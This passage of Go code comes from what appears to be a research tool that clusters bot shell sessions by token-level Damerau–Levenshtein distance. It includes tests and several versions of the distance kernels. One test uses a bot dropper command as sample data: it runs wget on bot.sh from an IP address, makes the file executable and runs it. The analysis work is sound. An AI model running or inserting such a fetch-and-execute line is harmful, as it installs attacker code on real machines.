		a := append(append(append([]string{}, pre...), genTokens(r, 10, small)...), suf...)
		b := append(append(append([]string{}, pre...), genTokens(r, 10, small)...), suf...)
		trial(a, b)
	}
	// Transposition-heavy: b is a with random adjacent swaps.
	for i := 0; i < 1000; i++ {
		a := genTokens(r, 20, mid)
		b := append([]string{}, a...)
		for k := 0; k+1 < len(b); k += 2 {
			if r.Intn(2) == 0 {
				b[k], b[k+1] = b[k+1], b[k]
			}
		}
		trial(a, b)
	}
}

// genIDs returns a random interned-ID sequence of exactly n tokens over
// IDs [base, base+vocab).
func genIDs(r *rand.Rand, n, vocab int, base int32) []int32 {
	out := make([]int32, n)
	for i := range out {
		out[i] = base + int32(r.Intn(vocab))
	}
	return out
}

// TestInternedKernelEqualsFullDP is the equivalence property test for
// the interned hot path: the hybrid kernel (single-word bit-parallel
// for short sides, blocked bit-parallel or the multiset-bound shortcut
// for long pairs) must equal the naive full DP on every random pair.
// Shapes cover every dispatch arm and the 64-token single-word
// boundary.
func TestInternedKernelEqualsFullDP(t *testing.T) {
	r := rand.New(rand.NewSource(202))
	s := NewScratch()
	trial := func(a, b []int32) {
		t.Helper()
		want := s.NormalizedIDsFull(a, b)
		if got := s.NormalizedIDs(a, b); got != want {
			t.Fatalf("hybrid = %v, full = %v for %v vs %v", got, want, a, b)
		}
	}
	for i := 0; i < 2000; i++ {
		// Short pairs over a tiny vocabulary: transposition-dense,
		// bit-parallel arm.
		trial(genIDs(r, r.Intn(20), 3, 0), genIDs(r, r.Intn(20), 3, 0))
		// Skewed lengths: short pattern against a long text.
		trial(genIDs(r, r.Intn(30), 6, 0), genIDs(r, 100+r.Intn(200), 6, 0))
	}
	for i := 0; i < 200; i++ {
		// Both sides past the single-word limit: the blocked arm, with a
		// shared vocabulary so the multiset bound cannot short-circuit.
		trial(genIDs(r, 65+r.Intn(80), 8, 0), genIDs(r, 65+r.Intn(80), 8, 0))
		// Disjoint vocabularies: the bound pins d = maxLen with no DP.
		trial(genIDs(r, 65+r.Intn(40), 8, 0), genIDs(r, 65+r.Intn(40), 8, 100))
		// Long near-duplicates (edits survive affix stripping).
		a := genIDs(r, 80+r.Intn(60), 50, 0)
		b := append([]int32{}, a...)
		for k := 0; k < 5; k++ {
			p := r.Intn(len(b))
			switch r.Intn(3) {
			case 0:
				b[p] = int32(50 + r.Intn(5))
			case 1:
				b = append(b[:p], b[p+1:]...)
			default:
				if p+1 < len(b) {
					b[p], b[p+1] = b[p+1], b[p]
				}
			}
		}
		trial(a, b)
	}
	// The single-word boundary: patterns of exactly 63, 64, and 65
	// tokens (65 dispatches to the blocked arm).
	for _, m := range []int{63, 64, 65} {
		for i := 0; i < 200; i++ {
			trial(genIDs(r, m, 4, 0), genIDs(r, m+r.Intn(40), 4, 0))
		}
	}
	// Many-block patterns: carries must chain across 5+ words.
	for i := 0; i < 30; i++ {
		trial(genIDs(r, 300+r.Intn(200), 10, 0), genIDs(r, 300+r.Intn(200), 10, 0))
	}
}

// TestBoundedKernelEdgeCases pins the hand-checkable shapes.
func TestBoundedKernelEdgeCases(t *testing.T) {
	s := NewScratch()
	cases := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"a", "", 1},
		{"", "a b c", 3},
		{"a b c", "a b c", 0},
		{"a b c d", "a c b d", 1},           // transposition inside affixes
		{"a b", "b a", 1},                   // pure transposition
		{"a a a a", "a a", 2},               // common affix overlap
		{"x y z", "p q r", 3},               // disjoint
		{"a x b", "a y b", 1},               // affix strip to single sub
		{"p p p x q q", "p p p y z q q", 2}, // stripped core differs
	}
	for _, c := range cases {
		a, b := Tokenize(c.a), Tokenize(c.b)
		if got := s.DamerauBounded(a, b); got != c.want {
			t.Errorf("DamerauBounded(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
		if got, want := s.DamerauBounded(a, b), Damerau(a, b); got != want {
			t.Errorf("bounded %q/%q = %d, full = %d", c.a, c.b, got, want)
		}
	}
}

// TestKernelStats: the counters must reflect the work split — every
// pair counted, trivial pairs resolved without band passes, and the
// banded cell count never exceeding the full-DP cell count on
// near-duplicate pairs.
func TestKernelStats(t *testing.T) {
	s := NewScratch()
	a := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh")
	b := Tokenize("cd /tmp; wget http://198.51.100.9/bot.sh; chmod 777 bot.sh; sh bot.sh")
	s.Normalized(a, a) // identical: trivial
	s.Normalized(a, b) // near-duplicate: banded
	st := s.Stats()
	if st.Pairs != 2 {
		t.Errorf("pairs = %d, want 2", st.Pairs)
	}
	if st.Trivial != 1 {
		t.Errorf("trivial = %d, want 1", st.Trivial)
	}
	if st.BandPasses < 1 {
		t.Errorf("band passes = %d, want >= 1", st.BandPasses)
	}
	if st.CellsDP >= st.CellsFull {
		t.Errorf("cells: banded %d >= full %d — no work saved on near-duplicates", st.CellsDP, st.CellsFull)
	}
	var sum KernelStats
	sum.Add(st)
	sum.Add(st)
	if sum.Pairs != 4 || sum.CellsDP != 2*st.CellsDP {
		t.Errorf("Add: %+v", sum)
	}
	s.ResetStats()
	if s.Stats() != (KernelStats{}) {
		t.Errorf("reset: %+v", s.Stats())
	}
}

// FuzzDamerauBanded fuzzes the bounded kernel against the naive full-DP
// reference. Bytes map to a small token vocabulary so the fuzzer finds
// structural cases (affixes, transpositions, repeats) rather than
// unique-token noise; the low bits of band pick an early-abandon bound
// for the public DamerauBanded contract too.
func FuzzDamerauBanded(f *testing.F) {
	f.Add([]byte("abcabc"), []byte("abacbc"), uint8(3))
	f.Add([]byte(""), []byte("zzz"), uint8(0))
	f.Add([]byte("prefix-core-suffix"), []byte("prefix-eroc-suffix"), uint8(7))
	vocab := []string{"cd", "/tmp", "wget", "x", "sh", "rm", "a", "b"}
	toTokens := func(raw []byte) []string {
		// Past the 64-token single-word limit so the fuzzer reaches the
		// banded long-pair arm of the interned kernel too.
		if len(raw) > 100 {
			raw = raw[:100]
		}
		out := make([]string, len(raw))
		for i, c := range raw {
			out[i] = vocab[int(c)%len(vocab)]
		}
		return out
	}
	f.Fuzz(func(t *testing.T, rawA, rawB []byte, band uint8) {
		a, b := toTokens(rawA), toTokens(rawB)
		s := NewScratch()
		full := Damerau(a, b)
		if got := s.DamerauBounded(a, b); got != full {
			t.Fatalf("bounded = %d, full = %d for %v vs %v", got, full, a, b)
		}
		// The interned hybrid kernel must agree as well: intern both
		// sequences and compare against the unbounded ID reference.
		in := NewInterner()
		ia, ib := in.Intern(a), in.Intern(b)
		if got, want := s.NormalizedIDs(ia, ib), s.NormalizedIDsFull(ia, ib); got != want {
			t.Fatalf("hybrid ids = %v, full ids = %v for %v vs %v", got, want, a, b)
		}
		// The early-abandon contract: exact within the bound, anything
		// above the bound reported as > bound.
		bound := int(band % 16)
		banded := s.DamerauBanded(a, b, bound)
		if full <= bound && banded != full {
			t.Fatalf("banded(%d) = %d, full = %d", bound, banded, full)
		}
		if full > bound && banded <= bound {
			t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
		}
	})
}
