// Package textdist implements the session-similarity machinery of
// section 6: command tokenization and the token-level Damerau–Levenshtein
// distance (DLD), where each token — not each character — is an edit
// unit. Token-level DLD is robust to the obfuscation bots apply (rotating
// IPs, random file names, changing folders) because such churn touches
// isolated tokens without altering the behavioral pattern.
package textdist

import "strings"

// Tokenize splits session command text into tokens. Separators are
// whitespace and the shell operators `;`, `|`, `&`, matching the paper's
// example: "mkdir /tmp;cd /tmp" -> ["mkdir", "/tmp", "cd", "/tmp"].
func Tokenize(text string) []string {
	return strings.FieldsFunc(text, func(r rune) bool {
		switch r {
		case ' ', '\t', '\n', '\r', ';', '|', '&':
			return true
		}
		return false
	})
}

// Damerau computes the Damerau–Levenshtein distance between two token
// sequences: the minimum number of token insertions, deletions,
// substitutions, and adjacent transpositions turning a into b.
//
// This is the "optimal string alignment" variant (each substring edited
// at most once), the standard choice for clustering distance matrices.
func Damerau(a, b []string) int {
	la, lb := len(a), len(b)
	if la == 0 {
		return lb
	}
	if lb == 0 {
		return la
	}
	// Three rolling rows: i-2, i-1, i.
	prev2 := make([]int, lb+1)
	prev := make([]int, lb+1)
	cur := make([]int, lb+1)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1 // deletion
			if v := cur[j-1] + 1; v < m {
				m = v // insertion
			}
			if v := prev[j-1] + cost; v < m {
				m = v // substitution
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v // transposition
				}
			}
			cur[j] = m
		}
		prev2, prev, cur = prev, cur, prev2
	}
	return prev[lb]
}

// Normalized returns the DLD between the token sequences scaled into
// [0,1] by the longer sequence length. Two empty sequences have
// distance 0.
func Normalized(a, b []string) float64 {
	n := len(a)
	if len(b) > n {
		n = len(b)
	}
	if n == 0 {
		return 0
	}
	return float64(Damerau(a, b)) / float64(n)
}

// DamerauBanded computes the DLD but abandons early (returning a value
// > bound) once the distance provably exceeds bound. Clustering uses it
// to skip full matrix computation for clearly-dissimilar pairs — one of
// the ablations in DESIGN.md.
func DamerauBanded(a, b []string, bound int) int {
	la, lb := len(a), len(b)
	diff := la - lb
	if diff < 0 {
		diff = -diff
	}
	if diff > bound {
		return bound + 1
	}
	if la == 0 || lb == 0 {
		return la + lb
	}
	prev2 := make([]int, lb+1)
	prev := make([]int, lb+1)
	cur := make([]int, lb+1)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		rowMin := cur[0]
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1
			if v := cur[j-1] + 1; v < m {
				m = v
			}
			if v := prev[j-1] + cost; v < m {
				m = v
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v
				}
			}
			cur[j] = m
			if m < rowMin {
				rowMin = m
			}
		}
		if rowMin > bound {
			return bound + 1
		}
		prev2, prev, cur = prev, cur, prev2
	}
	d := prev[lb]
	if d > bound {
		return bound + 1
	}
	return d
}

// CharDamerau computes character-level DLD between raw strings — the
// baseline the paper argues against; kept for the token-vs-char ablation.
func CharDamerau(a, b string) int {
	ta := make([]string, len(a))
	for i := 0; i < len(a); i++ {
		ta[i] = a[i : i+1]
	}
	tb := make([]string, len(b))
	for i := 0; i < len(b); i++ {
		tb[i] = b[i : i+1]
	}
	return Damerau(ta, tb)
}
