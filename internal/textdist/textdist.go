// Package textdist implements the session-similarity machinery of
// section 6: command tokenization and the token-level Damerau–Levenshtein
// distance (DLD), where each token — not each character — is an edit
// unit. Token-level DLD is robust to the obfuscation bots apply (rotating
// IPs, random file names, changing folders) because such churn touches
// isolated tokens without altering the behavioral pattern.
//
// The DP needs three rolling rows of ints. The package-level functions
// allocate them per call; the distance-matrix hot path computes millions
// of distances, so a Scratch carries reusable rows (one Scratch per
// worker) and brings per-pair allocations to zero.
package textdist

import (
	"math/bits"
	"strings"
)

// Tokenize splits session command text into tokens. Separators are
// whitespace and the shell operators `;`, `|`, `&`, matching the paper's
// example: "mkdir /tmp;cd /tmp" -> ["mkdir", "/tmp", "cd", "/tmp"].
func Tokenize(text string) []string {
	return strings.FieldsFunc(text, func(r rune) bool {
		switch r {
		case ' ', '\t', '\n', '\r', ';', '|', '&':
			return true
		}
		return false
	})
}

// Version identifies the distance-kernel implementation. Any change
// that could alter a computed distance (it never should — the kernel is
// exact) or the tokenization must bump this string: the on-disk matrix
// cache keys on it, so stale cache entries can never be mistaken for
// current ones.
const Version = "dld-bitvec-1"

// KernelStats counts the work the bounded kernel did and, crucially,
// the work it avoided — the observability hook behind the
// analysis-layer obs counters and the -timings span tags.
type KernelStats struct {
	// Pairs is the number of normalized-distance computations.
	Pairs int64
	// Trivial counts pairs fully resolved without any DP: equal after
	// affix stripping, one side empty after stripping, or (interned
	// path) token-disjoint, where the histogram bound pins the distance.
	Trivial int64
	// BandPasses counts DP passes: banded passes including
	// band-widening retries, and bit-parallel scans (one per pair).
	BandPasses int64
	// CellsDP measures the DP work actually done. Banded passes count
	// cells; the bit-parallel kernel computes a whole 64-cell column per
	// machine word step and counts one per step, so the CellsFull -
	// CellsDP gap is the work the kernel structure avoided.
	CellsDP int64
	// CellsFull is the number of cells a full unbounded DP would have
	// computed for the same pairs (pre-stripping lengths). The
	// short-circuited work is CellsFull - CellsDP.
	CellsFull int64
}

// Add accumulates other into s (for merging per-worker stats).
func (s *KernelStats) Add(other KernelStats) {
	s.Pairs += other.Pairs
	s.Trivial += other.Trivial
	s.BandPasses += other.BandPasses
	s.CellsDP += other.CellsDP
	s.CellsFull += other.CellsFull
}

// Scratch holds the DP row buffers for one worker. The zero value is
// ready to use; rows grow on demand and are reused across calls. Not
// safe for concurrent use — give each goroutine its own Scratch.
type Scratch struct {
	prev2, prev, cur []int
	// b* are the int32 rows of the banded kernel: half the memory
	// traffic of int rows, and the DLD of any real pair fits easily
	// (sequences are token lists, not genomes).
	bprev2, bprev, bcur []int32
	// peq* form the per-pair match-vector table of the bit-parallel
	// kernel: a small open-addressing map from token ID to the bitmask
	// of pattern positions holding that token. Keys are stored as id+1
	// so the zero value means "empty"; peqUsed records occupied slots
	// for an O(pattern) clear after each pair.
	peqKeys [peqSize]int32
	peqVals [peqSize]uint64
	peqUsed [bitvecMax]uint8
	peqN    int
	// counts is the token-ID histogram behind the multiset lower bound
	// of the long-pair path; grown to the largest ID seen and zeroed
	// after each pair via the same ID list.
	counts []int32
	// stats accumulates bounded-kernel work counters.
	stats KernelStats
}

// NewScratch returns an empty Scratch.
func NewScratch() *Scratch { return &Scratch{} }

// Stats returns the accumulated bounded-kernel counters.
func (s *Scratch) Stats() KernelStats { return s.stats }

// ResetStats zeroes the counters.
func (s *Scratch) ResetStats() { s.stats = KernelStats{} }

// rows returns the three DP rows sized for a second sequence of length
// lb, growing the backing arrays when needed.
func (s *Scratch) rows(lb int) (prev2, prev, cur []int) {
	if cap(s.prev) <= lb {
		s.prev2 = make([]int, lb+1)
		s.prev = make([]int, lb+1)
		s.cur = make([]int, lb+1)
	}
	return s.prev2[:lb+1], s.prev[:lb+1], s.cur[:lb+1]
}

// rows32 returns the three int32 DP rows for the banded kernel.
func (s *Scratch) rows32(lb int) (prev2, prev, cur []int32) {
	if cap(s.bprev) <= lb {
		s.bprev2 = make([]int32, lb+1)
		s.bprev = make([]int32, lb+1)
		s.bcur = make([]int32, lb+1)
	}
	return s.bprev2[:lb+1], s.bprev[:lb+1], s.bcur[:lb+1]
}

// damerau computes the edit-unit DLD over any comparable element type.
// Tokens run it over []string; the interned hot path runs it over
// []int32, where the per-cell equality check is a single integer
// compare instead of a string compare.
func damerau[T comparable](s *Scratch, a, b []T) int {
	la, lb := len(a), len(b)
	if la == 0 {
		return lb
	}
	if lb == 0 {
		return la
	}
	// Three rolling rows: i-2, i-1, i.
	prev2, prev, cur := s.rows(lb)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1 // deletion
			if v := cur[j-1] + 1; v < m {
				m = v // insertion
			}
			if v := prev[j-1] + cost; v < m {
				m = v // substitution
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v // transposition
				}
			}
			cur[j] = m
		}
		prev2, prev, cur = prev, cur, prev2
	}
	return prev[lb]
}

// damerauBanded is damerau with early abandoning: it returns a value
// > bound as soon as the distance provably exceeds bound.
func damerauBanded[T comparable](s *Scratch, a, b []T, bound int) int {
	la, lb := len(a), len(b)
	diff := la - lb
	if diff < 0 {
		diff = -diff
	}
	if diff > bound {
		return bound + 1
	}
	if la == 0 || lb == 0 {
		return la + lb
	}
	prev2, prev, cur := s.rows(lb)
	for j := 0; j <= lb; j++ {
		prev[j] = j
	}
	for i := 1; i <= la; i++ {
		cur[0] = i
		rowMin := cur[0]
		for j := 1; j <= lb; j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1
			if v := cur[j-1] + 1; v < m {
				m = v
			}
			if v := prev[j-1] + cost; v < m {
				m = v
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v
				}
			}
			cur[j] = m
			if m < rowMin {
				rowMin = m
			}
		}
		if rowMin > bound {
			return bound + 1
		}
		prev2, prev, cur = prev, cur, prev2
	}
	d := prev[lb]
	if d > bound {
		return bound + 1
	}
	return d
}

// bandInf is the banded DP's out-of-band sentinel. Row-to-row
// propagation adds at most 1 per row, so values stay far below
// math.MaxInt32 for any realistic sequence.
const bandInf = int32(1) << 30

// damerauBanded32 computes the OSA Damerau DP restricted to the
// diagonal band |i-j| <= band, over int32 rows. Out-of-band cells are
// bandInf. The caller must pass band > |len(a)-len(b)| so the (la, lb)
// corner lies inside the band.
//
// The Ukkonen band argument: every insertion or deletion moves the
// alignment one diagonal over and costs 1, while matches,
// substitutions, and adjacent transpositions stay on their diagonal. An
// alignment of cost d therefore never leaves |i-j| <= d, so
//
//   - the banded value is always >= the true distance (it minimizes
//     over a subset of alignments), and
//   - if the banded value v satisfies v <= band, the optimal alignment
//     (cost <= v <= band) fits inside the band and v IS the true
//     distance — exactly, not approximately.
func damerauBanded32[T comparable](s *Scratch, a, b []T, band int) int {
	la, lb := len(a), len(b)
	prev2, prev, cur := s.rows32(lb)
	// Row 0: cells j <= band, then one sentinel.
	top := lb
	if band < top {
		top = band
	}
	for j := 0; j <= top; j++ {
		prev[j] = int32(j)
	}
	if band+1 <= lb {
		prev[band+1] = bandInf
	}
	cells := int64(0)
	for i := 1; i <= la; i++ {
		jlo, jhi := i-band, i+band
		if jlo < 1 {
			jlo = 1
		}
		if jhi > lb {
			jhi = lb
		}
		// Left boundary: column jlo-1 of this row is out of band except
		// when it is column 0 with i <= band.
		if jlo == 1 && i <= band {
			cur[0] = int32(i)
		} else {
			cur[jlo-1] = bandInf
		}
		for j := jlo; j <= jhi; j++ {
			cost := int32(1)
			if a[i-1] == b[j-1] {
				cost = 0
			}
			m := prev[j] + 1 // deletion
			if v := cur[j-1] + 1; v < m {
				m = v // insertion
			}
			if v := prev[j-1] + cost; v < m {
				m = v // substitution
			}
			if i > 1 && j > 1 && a[i-1] == b[j-2] && a[i-2] == b[j-1] {
				if v := prev2[j-2] + 1; v < m {
					m = v // transposition
				}
			}
			cur[j] = m
		}
		cells += int64(jhi - jlo + 1)
		// Right boundary sentinel for the next row's prev[j] read.
		if jhi < lb {
			cur[jhi+1] = bandInf
		}
		prev2, prev, cur = prev, cur, prev2
	}
	s.stats.CellsDP += cells
	return int(prev[lb])
}

// damerauDoubling is the exact bounded kernel of the string-token path
// (the interned hot path dispatches in damerauBoundedIDs instead):
// strip the common prefix and suffix, apply the
// |len(a)-len(b)| lower bound to size the initial band, then run the
// banded DP with an exponentially widening band until the result fits
// inside the band — at which point it provably equals the full DP (see
// damerauBanded32). Near-duplicate pairs (the bulk of deduplicated bot
// traffic) finish in O(n·d) instead of O(n²); wildly different-length
// pairs are cheap because the DP is only min(la,lb) wide.
//
// Affix stripping preserves the OSA distance: a cost-1 transposition
// spanning the strip boundary needs a[p-1]==b[p] and a[p]==b[p-1] with
// a[p-1]==b[p-1] (the common affix), which forces all four tokens equal
// — and then plain matches are at least as good.
func damerauDoubling[T comparable](s *Scratch, a, b []T) int {
	s.stats.Pairs++
	s.stats.CellsFull += int64(len(a)) * int64(len(b))
	for len(a) > 0 && len(b) > 0 && a[0] == b[0] {
		a, b = a[1:], b[1:]
	}
	for len(a) > 0 && len(b) > 0 && a[len(a)-1] == b[len(b)-1] {
		a, b = a[:len(a)-1], b[:len(b)-1]
	}
	la, lb := len(a), len(b)
	if la == 0 || lb == 0 {
		s.stats.Trivial++
		return la + lb
	}
	diff, maxLen := la-lb, la
	if diff < 0 {
		diff = -diff
	}
	if lb > maxLen {
		maxLen = lb
	}
	for band := diff + 1; ; band *= 2 {
		// Once the band covers most of the matrix, widen to the full
		// width: d <= maxLen always holds, so this pass is final.
		if 2*band >= maxLen {
			band = maxLen
		}
		s.stats.BandPasses++
		if d := damerauBanded32(s, a, b, band); d <= band {
			return d
		}
	}
}

const (
	// bitvecMax is the longest pattern the single-word bit-parallel
	// kernel handles: one pattern position per bit of a uint64.
	bitvecMax = 64
	// peqSize is the open-addressing table size for the match vectors:
	// a power of two at load factor <= 1/2 for <= bitvecMax keys.
	peqSize = 128
)

// damerauBitVector computes the exact OSA Damerau distance by Hyyrö's
// bit-parallel algorithm (Myers' Levenshtein vectors plus a
// transposition term). pattern must be non-empty and at most bitvecMax
// tokens; text is unbounded. Each text token costs a handful of word
// operations instead of a len(pattern)-cell DP row, so a pair costs
// O(len(text)) regardless of pattern length — the decisive win on the
// skewed-length pairs that dominate real command corpora.
//
// Vector semantics (bit k <-> pattern position k+1, column j = text
// position): D0 marks diagonal zeros D[i,j] == D[i-1,j-1]; VP/VN the
// +1/-1 vertical deltas; HP/HN the horizontal ones. The restricted
// transposition D[i,j] = D[i-2,j-2]+1 surfaces as an extra diagonal
// zero exactly when pattern[i-1] == text[j], pattern[i] == text[j-1],
// and (i-1,j-1) was not itself a diagonal zero — the TR term below,
// built from the previous column's D0 and match vector.
func (s *Scratch) damerauBitVector(pattern, text []int32) int {
	m := len(pattern)
	for i, id := range pattern {
		h := (uint32(id) * 2654435761) & (peqSize - 1)
		for {
			k := s.peqKeys[h]
			if k == 0 {
				s.peqKeys[h] = id + 1
				s.peqVals[h] = 1 << uint(i)
				s.peqUsed[s.peqN] = uint8(h)
				s.peqN++
				break
			}
			if k == id+1 {
				s.peqVals[h] |= 1 << uint(i)
				break
			}
			h = (h + 1) & (peqSize - 1)
		}
	}
	vp := ^uint64(0)
	if m < 64 {
		vp = (uint64(1) << uint(m)) - 1
	}
	var vn, d0prev, pmprev uint64
	mask := uint64(1) << uint(m-1)
	score := m
	for _, id := range text {
		h := (uint32(id) * 2654435761) & (peqSize - 1)
		var pm uint64
		for {
			k := s.peqKeys[h]
			if k == id+1 {
				pm = s.peqVals[h]
				break
			}
			if k == 0 {
				break
			}
			h = (h + 1) & (peqSize - 1)
		}
		tr := ((^d0prev & pm) << 1) & pmprev
		d0 := tr | (((pm & vp) + vp) ^ vp) | pm | vn
		hp := vn | ^(d0 | vp)
		hn := d0 & vp
		if hp&mask != 0 {
			score++
		} else if hn&mask != 0 {
			score--
		}
		x := (hp << 1) | 1
		vp = (hn << 1) | ^(d0 | x)
		vn = d0 & x
		d0prev, pmprev = d0, pm
	}
	for i := 0; i < s.peqN; i++ {
		s.peqKeys[s.peqUsed[i]] = 0
	}
	s.peqN = 0
	return score
}

// damerauBitVectorBlocked extends damerauBitVector to patterns longer
// than one machine word: the pattern is split into ceil(m/64)-word
// blocks and each text token updates the blocks bottom-up, chaining the
// adder carry, the horizontal-delta shift bits, and the transposition
// term's shift bit across block boundaries. A pair costs
// O(len(text) * ceil(len(pattern)/64)) word operations — for the rare
// both-sides-long pairs this replaces millions of banded DP cells with
// tens of thousands of word steps. Long pairs are a sliver of any
// matrix fill, so this path allocates its per-pair state instead of
// threading more buffers through Scratch.
func damerauBitVectorBlocked(pattern, text []int32) int {
	m := len(pattern)
	nb := (m + 63) / 64
	peq := make(map[int32][]uint64, m)
	for i, id := range pattern {
		v := peq[id]
		if v == nil {
			v = make([]uint64, nb)
			peq[id] = v
		}
		v[i/64] |= 1 << uint(i%64)
	}
	vp := make([]uint64, nb)
	vn := make([]uint64, nb)
	d0prev := make([]uint64, nb)
	pmprev := make([]uint64, nb)
	zero := make([]uint64, nb)
	for k := range vp {
		vp[k] = ^uint64(0)
	}
	if r := m % 64; r != 0 {
		vp[nb-1] = (uint64(1) << uint(r)) - 1
	}
	mask := uint64(1) << uint((m-1)%64)
	score := m
	for _, id := range text {
		pmc := peq[id]
		if pmc == nil {
			pmc = zero
		}
		var addC, yC uint64
		hpC, hnC := uint64(1), uint64(0)
		for k := 0; k < nb; k++ {
			pm := pmc[k]
			y := ^d0prev[k] & pm
			tr := ((y << 1) | yC) & pmprev[k]
			sum, carry := bits.Add64(pm&vp[k], vp[k], addC)
			d0 := tr | (sum ^ vp[k]) | pm | vn[k]
			hp := vn[k] | ^(d0 | vp[k])
			hn := d0 & vp[k]
			if k == nb-1 {
				if hp&mask != 0 {
					score++
				} else if hn&mask != 0 {
					score--
				}
			}
			x := (hp << 1) | hpC
			nvp := (hn << 1) | hnC | ^(d0 | x)
			vn[k] = d0 & x
			vp[k] = nvp
			yC, hpC, hnC, addC = y>>63, hp>>63, hn>>63, carry
			d0prev[k], pmprev[k] = d0, pm
		}
	}
	return score
}

// histLowerBound returns the multiset lower bound on the DLD of the
// stripped pair (shorter, longer): len(longer) minus the multiset
// intersection size. Every cost-0 match and cost-1 transposition in an
// alignment consumes equal tokens from both sides, so at most
// |intersection| tokens of the longer side escape a paid edit — the
// distance is at least len(longer) - |intersection|. O(la+lb) via an
// ID-indexed histogram.
func (s *Scratch) histLowerBound(shorter, longer []int32) int {
	for _, id := range shorter {
		if int(id) >= len(s.counts) {
			s.counts = append(s.counts, make([]int32, int(id)+1-len(s.counts))...)
		}
		s.counts[id]++
	}
	c := 0
	for _, id := range longer {
		if int(id) < len(s.counts) && s.counts[id] > 0 {
			c++
			s.counts[id]--
		}
	}
	for _, id := range shorter {
		s.counts[id] = 0
	}
	return len(longer) - c
}

// LowerBoundIDs returns a lower bound on DamerauIDs(a, b) in O(la+lb):
// the multiset bound max(la,lb) - |multiset intersection|. Every cost-0
// match and cost-1 transposition in an alignment consumes equal tokens
// from both sides, so at most |intersection| tokens of the longer side
// escape a paid edit. Online cluster assignment uses it to discard most
// medoids before any DP or bit-parallel pass.
func (s *Scratch) LowerBoundIDs(a, b []int32) int {
	if len(a) > len(b) {
		a, b = b, a
	}
	if len(a) == 0 {
		return len(b)
	}
	return s.histLowerBound(a, b)
}

// NormalizedLowerBoundIDs is LowerBoundIDs scaled the way NormalizedIDs
// scales the distance (by the longer sequence length), so it lower-
// bounds NormalizedIDs(a, b). Two empty sequences bound to 0.
func (s *Scratch) NormalizedLowerBoundIDs(a, b []int32) float64 {
	n := len(a)
	if len(b) > n {
		n = len(b)
	}
	if n == 0 {
		return 0
	}
	return float64(s.LowerBoundIDs(a, b)) / float64(n)
}

// damerauBoundedIDs is the exact kernel of the interned distance-matrix
// hot path. After stripping the common affixes it dispatches:
//
//   - shorter side <= bitvecMax tokens (virtually every pair of real,
//     deduplicated command texts): the single-word bit-parallel kernel,
//     O(longer) word operations.
//   - both sides longer: the multiset lower bound first — if it reaches
//     len(longer), the distance IS len(longer) (substitute-and-delete
//     achieves it, the bound forbids less) with no DP at all —
//     otherwise the blocked bit-parallel kernel.
//
// Every branch returns the exact OSA distance; only the work differs.
func (s *Scratch) damerauBoundedIDs(a, b []int32) int {
	s.stats.Pairs++
	s.stats.CellsFull += int64(len(a)) * int64(len(b))
	for len(a) > 0 && len(b) > 0 && a[0] == b[0] {
		a, b = a[1:], b[1:]
	}
	for len(a) > 0 && len(b) > 0 && a[len(a)-1] == b[len(b)-1] {
		a, b = a[:len(a)-1], b[:len(b)-1]
	}
	if len(a) > len(b) {
		a, b = b, a
	}
	la, lb := len(a), len(b)
	if la == 0 {
		s.stats.Trivial++
		return lb
	}
	if la <= bitvecMax {
		s.stats.BandPasses++
		s.stats.CellsDP += int64(lb)
		return s.damerauBitVector(a, b)
	}
	if low := s.histLowerBound(a, b); low == lb {
		s.stats.Trivial++
		return lb
	}
	s.stats.BandPasses++
	s.stats.CellsDP += int64((la+63)/64) * int64(lb)
	return damerauBitVectorBlocked(a, b)
}

// normalized scales the exact DLD into [0,1] by the longer sequence
// length, routing through the bounded doubling kernel — byte-identical
// to the full DP for every pair.
func normalized[T comparable](s *Scratch, a, b []T) float64 {
	la, lb := len(a), len(b)
	n := la
	if lb > n {
		n = lb
	}
	if n == 0 {
		return 0
	}
	return float64(damerauDoubling(s, a, b)) / float64(n)
}

// normalizedFull is the unbounded reference: the full-DP distance
// scaled the same way. Kept for the kernel-equivalence tests and the
// bounded-vs-unbounded matrix benchmark.
func normalizedFull[T comparable](s *Scratch, a, b []T) float64 {
	la, lb := len(a), len(b)
	n := la
	if lb > n {
		n = lb
	}
	if n == 0 {
		return 0
	}
	return float64(damerau(s, a, b)) / float64(n)
}

// Damerau computes the token-level DLD using the scratch rows.
func (s *Scratch) Damerau(a, b []string) int { return damerau(s, a, b) }

// DamerauBanded computes the DLD but abandons early (returning a value
// > bound) once the distance provably exceeds bound.
func (s *Scratch) DamerauBanded(a, b []string, bound int) int {
	return damerauBanded(s, a, b, bound)
}

// Normalized returns the DLD scaled into [0,1] by the longer sequence
// length, computed by the exact bounded kernel (see damerauDoubling) —
// byte-identical to the full DP for every pair.
func (s *Scratch) Normalized(a, b []string) float64 { return normalized(s, a, b) }

// DamerauIDs is Damerau over interned token IDs.
func (s *Scratch) DamerauIDs(a, b []int32) int { return damerau(s, a, b) }

// NormalizedIDs is Normalized over interned token IDs. Because an
// Interner assigns equal tokens equal IDs (and distinct tokens distinct
// IDs), this returns exactly Normalized of the original sequences while
// the distance comes from the exact hybrid kernel (see
// damerauBoundedIDs) — the distance-matrix hot path.
